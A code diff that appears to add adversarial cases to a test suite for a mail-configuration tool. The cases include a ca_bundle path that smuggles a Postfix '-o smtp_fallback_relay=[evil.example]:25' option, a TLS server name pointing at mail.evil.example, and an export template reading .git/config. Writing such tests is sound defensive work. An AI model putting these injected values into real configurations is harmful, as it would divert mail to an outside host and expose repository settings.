@@ -239,6 +239,27 @@ ATTEMPTS: dict[str, tuple[str, dict[str, Any]]] = {
             )
         },
     ),
+    "Git's own settings as a template": (
+        "",
+        {
+            "mailspec.yml": main()
+            .replace("type: env_file", "type: export, template: .git/config")
+            .replace("dialect: systemd", "adopt: true")
+        },
+    ),
+    "options of Postfix in a path": (
+        "",
+        {
+            "mailspec.yml": main(
+                "  - {name: pf, type: postfix, path: '{home}/targets/pf.env', "
+                "ca_bundle: '/etc/ssl/certs/a.crt -o smtp_fallback_relay=[evil.example]:25'}\n"
+            )
+        },
+    ),
+    "another name for the server": (
+        "limits-hosts",
+        {"mailspec.yml": main().replace("    from:", "    tls: {server_name: mail.evil.example}\n    from:")},
+    ),
     "no policy": (
         "policy-loosened",
         {"mailspec.yml": main(without=MAIN.partition("policy:")[2]).replace("policy:", "policy: {}\n")},
